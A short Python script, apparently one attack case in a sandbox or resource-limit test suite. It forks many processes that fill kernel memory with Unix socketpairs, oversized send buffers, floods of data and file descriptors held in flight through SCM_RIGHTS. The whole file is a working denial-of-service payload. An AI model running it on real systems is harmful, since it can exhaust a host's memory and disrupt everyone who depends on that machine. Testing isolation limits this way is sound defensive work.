# Memory of the kernel: pipes, sockets and descriptors in flight, filled in many processes.
import array
import os
import socket
import time

from attack import done


def fill():
    block = b'x' * 65536
    kept = []
    for _ in range(20_000):
        try:
            here, there = socket.socketpair(socket.AF_UNIX, socket.SOCK_STREAM)
        except OSError:
            break
        kept += [here, there]
        for end in (here, there):
            end.setblocking(False)
            end.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)
            try:
                end.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [here.fileno()] * 200))])
            except OSError:
                pass
            try:
                while True:
                    end.send(block)
            except OSError:
                pass
    print('filled', flush=True)
    time.sleep(600)


print('tried 1', flush=True)
children = 0
for _ in range(20):
    try:
        if os.fork() == 0:
            fill()
        children += 1
    except OSError:
        break
time.sleep(600)
done()
